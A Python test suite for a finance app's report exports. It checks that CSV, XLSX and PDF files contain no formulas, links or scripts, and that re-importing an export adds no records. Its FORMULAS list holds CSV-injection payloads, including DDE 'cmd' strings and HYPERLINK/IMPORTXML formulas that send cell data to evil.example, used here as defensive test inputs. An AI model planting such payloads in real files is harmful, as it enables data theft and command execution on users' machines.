"""Reports as files: by a job, in four formats, none with a cell that a spreadsheet would compute;
and a table of records that adds nothing when it is read again."""

import csv
import io
import json
import zipfile
from collections.abc import Mapping
from datetime import date
from typing import Any
from uuid import UUID

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from finora import Amount, Finora, ImportRequest, Job, NewRecord, RecordChange, Scope, currency
from finora_core.insights.reports.model import (
    Asked,
    BadReport,
    Format,
    FormatUnavailable,
    Kind,
    ReportExpired,
    ReportNotFound,
    ReportNotReady,
)
from finora_core.insights.reports.service import ReportService
from finora_core.insights.reports.tables import csv_cell
from finora_core.records.exported.model import RECORD_COLUMNS, guarded, unguarded

EUR = currency("EUR")
PERIOD = {"since": date(2023, 1, 1), "until": date(2023, 12, 31)}

# OWASP's list for CSV injection, and what is known beside it.
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "+1+1",
    "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "=1+1;a,b",
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")', "|calc", "%0A=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "'=1+1", "''", "'", '"=1+1"', ";=1+1", ",=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
BEGINS = tuple("=+-@|%\t\r\n＝＋－＠")


@pytest.fixture
def giro(finora: Finora, scope: Scope) -> UUID:
    return finora.ledger.open_account(scope, "=1+1 Giro", asset="EUR").id


@pytest.fixture
def filled(finora: Finora, scope: Scope, giro: UUID) -> Scope:
    for number, text in enumerate(FORMULAS, start=1):
        new = NewRecord(
            account_id=giro,
            on_date=date(2023, 1, number),
            amount=Amount(-number, EUR),
            description=text,
            counterparty=text,
            category=text.strip(),
        )
        finora.records.create(scope, new)
    return scope


def written(finora: Finora, scope: Scope, kind: Kind, format_: Format, **more: Any) -> bytes:
    out = io.BytesIO()
    finora.reports.write(scope, Asked(kind=kind, format=format_, **more), out)
    return out.getvalue()


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


@pytest.mark.invariant("T-19")
@pytest.mark.parametrize("kind", [Kind.RECORDS, Kind.BOOKS, Kind.PROFIT_AND_LOSS, Kind.CASH_FLOW])
def test_no_cell_of_a_csv_file_begins_a_formula(finora: Finora, filled: Scope, kind: Kind) -> None:
    period = PERIOD if kind in (Kind.PROFIT_AND_LOSS, Kind.CASH_FLOW) else {}
    content = written(finora, filled, kind, Format.CSV, **period)
    files = [content]
    if kind is not Kind.RECORDS:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            files = [archive.read(name) for name in archive.namelist()]
    cells = [
        cell
        for file in files
        for row in csv.reader(io.StringIO(file.decode(), newline=""))
        for cell in row
    ]
    assert len(cells) > 20
    for cell in cells:
        number = cell.removeprefix("-").replace(".", "").isdecimal()
        assert number or not cell.lstrip(" ").startswith(BEGINS), cell
    # All of it is quoted, so no separator ends a cell in a program that has another one.
    assert all(line.startswith(b'"') for file in files for line in file.split(b'"\r\n"')[:1])


@pytest.mark.invariant("T-19")
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(finora: Finora, filled: Scope) -> None:
    content = written(finora, filled, Kind.BOOKS, Format.XLSX)
    book = openpyxl.load_workbook(io.BytesIO(content))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds and kinds <= {"s", "n", "d", "inlineStr"}
    assert not any(cell.hyperlink for sheet in book for row in sheet for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist())
        assert not any("externalLink" in name for name in parts.namelist())


@pytest.mark.invariant("T-19")
def test_a_pdf_runs_nothing_and_json_says_what_is_there(finora: Finora, filled: Scope) -> None:
    pdf = written(finora, filled, Kind.RECORDS, Format.PDF)
    assert pdf.startswith(b"%PDF-")
    assert not any(name in pdf for name in (b"/JavaScript", b"/JS", b"/Launch", b"/URI", b"/AA"))
    found = json.loads(written(finora, filled, Kind.RECORDS, Format.JSON))
    assert {each["description"] for each in found["tables"]["records"]} == {
        text.strip() for text in FORMULAS
    }


@given(st.text(max_size=30))
def test_what_is_guarded_is_got_back_and_begins_no_formula(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not csv_cell(text).lstrip(" ").startswith(BEGINS)


# --- S3-35 ---


@pytest.mark.spec("S3-35")
def test_the_columns_of_records_are_these_in_this_order(finora: Finora, scope: Scope) -> None:
    assert RECORD_COLUMNS == (
        "id", "date", "booked_on", "account", "account_id", "amount", "currency", "description",
        "counterparty", "category", "status", "state", "bank_id", "source",
        "merchant", "note", "tags", "split",
    )  # fmt: skip
    head = written(finora, scope, Kind.RECORDS, Format.CSV)
    assert head.decode().strip() == ",".join(f'"{name}"' for name in RECORD_COLUMNS)


def brought(finora: Finora, scope: Scope, content: bytes) -> Mapping[str, Any]:
    result = finora.import_file(scope, io.BytesIO(content), name="records.csv")
    assert not isinstance(result, Job), result
    return result


@pytest.mark.spec("S3-35")
def test_an_export_that_is_imported_adds_nothing(finora: Finora, filled: Scope) -> None:
    statement = b"Date,Amount,Description\n2026-01-30,-4.50,Bakery\n2026-01-30,-4.50,Bakery\n"
    asked = ImportRequest(account="Bank", currency="EUR")
    finora.import_file(filled, io.BytesIO(statement), asked, name="a.csv")
    found = finora.records.list(filled).items
    # Changed by a person, so that nothing but its id says which one it is.
    change = RecordChange(amount=Amount(-1, EUR), on_date=date(2024, 5, 5), description="other")
    finora.records.change(filled, found[0].id, change)
    finora.records.delete(filled, found[1].id)
    content = written(finora, filled, Kind.RECORDS, Format.CSV)
    assert len(rows_of(content)) == len(FORMULAS) + 1

    before = finora.ledger.trial_balance(filled), finora.records.list(filled, limit=100)
    accounts = finora.ledger.accounts(filled)
    for _ in range(2):
        result = brought(finora, filled, content)
        assert (result["added"], result["claimed"], result["set_aside_count"]) == (0, 0, 0)
        assert result["existing"] == len(FORMULAS) + 1
    assert (finora.ledger.trial_balance(filled), finora.records.list(filled, limit=100)) == before
    assert finora.ledger.accounts(filled) == accounts
    # Written by a spreadsheet, without quotes and with what it was sorted by, it is the same.
    again = sorted(csv.reader(io.StringIO(content.decode(), newline="")), reverse=True)
    head = [row for row in again if row[0] == "id"] + [row for row in again if row[0] != "id"]
    out = io.StringIO()
    csv.writer(out).writerows(head)
    assert brought(finora, filled, out.getvalue().encode())["existing"] == len(FORMULAS) + 1


def test_in_other_books_an_export_is_added_once(
    finora: Finora, filled: Scope, stranger: Scope
) -> None:
    content = written(finora, filled, Kind.RECORDS, Format.CSV)
    assert brought(finora, stranger, content)["added"] == len(FORMULAS)
    assert brought(finora, stranger, content)["added"] == 0
    theirs = {(each.description, each.amount) for each in finora.records.list(stranger).items}
    mine = {(each.description, each.amount) for each in finora.records.list(filled).items}
    assert theirs == mine


# --- S0-63 ---


@pytest.mark.spec("S0-63")
def test_every_format_has_the_values_of_the_api(finora: Finora, filled: Scope, giro: UUID) -> None:
    large = Amount(10**30 + 1, EUR)
    finora.records.create(
        filled,
        NewRecord(account_id=giro, on_date=date(2023, 5, 1), amount=large, description="Λ Я ß"),
    )
    api = {str(each.id): each for each in finora.records.list(filled, limit=100).items}
    by_csv = {row["id"]: row for row in rows_of(written(finora, filled, Kind.RECORDS, Format.CSV))}
    assert by_csv.keys() == api.keys()
    for key, record in api.items():
        row = by_csv[key]
        assert (row["amount"], row["currency"]) == (record.amount.text, "EUR")
        assert unguarded(row["description"]) == record.description
        assert (row["date"], row["status"]) == (str(record.on_date), record.status.value)
    found = json.loads(written(finora, filled, Kind.BOOKS, Format.JSON))["tables"]
    assert {row["id"]: row["amount"]["amount"] for row in found["records"]} == {
        key: record.amount.text for key, record in api.items()
    }
    [balance] = finora.ledger.balances(filled, giro)
    [held] = [row for row in found["balances"] if row["account_id"] == str(giro)]
    assert held["amount"] == {"amount": balance.amount.text, "asset": "EUR"}
    book = openpyxl.load_workbook(io.BytesIO(written(finora, filled, Kind.BOOKS, Format.XLSX)))
    lines = list(book["records"].iter_rows(min_row=2, values_only=True))
    amount = RECORD_COLUMNS.index("amount")
    for line in lines:
        shown = line[amount]
        text = shown if isinstance(shown, str) else f"{shown:.2f}"
        assert text == api[str(line[0])].amount.text
    pdf = written(finora, filled, Kind.STATEMENT, Format.PDF, account_id=giro)
    assert pdf == written(finora, filled, Kind.STATEMENT, Format.PDF, account_id=giro)


@pytest.mark.spec("S0-63")
def test_a_statement_has_each_balance(finora: Finora, filled: Scope, giro: UUID) -> None:
    rows = rows_of(written(finora, filled, Kind.STATEMENT, Format.CSV, account_id=giro))
    api = finora.ledger.statement(filled, giro).items
    assert [(row["amount"], row["balance"]) for row in rows] == [
        (each.amount.text, each.balance.text) for each in api
    ]


# --- the job ---


@pytest.mark.spec("S3-33")
@pytest.mark.parametrize("format_", list(Format))
def test_a_job_makes_the_file_and_says_so(finora: Finora, filled: Scope, format_: Format) -> None:
    for kind in (Kind.PROFIT_AND_LOSS, Kind.RECORDS):
        period = PERIOD if kind is Kind.PROFIT_AND_LOSS else {}
        report = finora.reports.request(filled, Asked(kind=kind, format=format_, **period))
        with pytest.raises(ReportNotReady):
            finora.reports.file_of(filled, report.id)
        finora.run_jobs()
        assert finora.jobs.get(filled, report.job_id).state == "done"
        done = finora.reports.get(filled, report.id)
        assert done.expires_at is not None and done.finished_at is not None
        assert (done.expires_at - done.finished_at).days == 30
        file_id = finora.reports.file_of(filled, report.id)
        with finora.files.open(filled, file_id) as (file, content):
            assert len(content.read()) == file.bytes > 0
        assert file.name.startswith(kind.value.replace("_", "-")) and file.reason is None
        with pytest.raises(ReportExpired):
            done.check_readable(done.expires_at)
    finora.run_jobs()
    events = [each for each in finora.audit.events(filled, limit=200).items
              if each.type == "report.generated"]  # fmt: skip
    assert [each.payload["format"] for each in events] == [format_.value] * 2
    assert len(finora.reports.list(filled).items) == 2


def test_what_does_not_fit_is_refused(finora: Finora, scope: Scope, stranger: Scope) -> None:
    for wrong in (
        {"kind": Kind.PROFIT_AND_LOSS},
        {"kind": Kind.STATEMENT},
        {"kind": Kind.BOOKS, "closing": 1},
        {"kind": Kind.BOOKS, "account_id": UUID(int=1)},
    ):
        with pytest.raises(BadReport):
            Asked(format=Format.CSV, **wrong)
    bare = ReportService(finora.reports.begin, finora.reports.objects, {})
    with pytest.raises(FormatUnavailable, match="export"):
        bare.request(scope, Asked(kind=Kind.BOOKS, format=Format.PDF))
    report = finora.reports.request(scope, Asked(kind=Kind.BOOKS, format=Format.CSV))
    with pytest.raises(ReportNotFound):
        finora.reports.get(stranger, report.id)
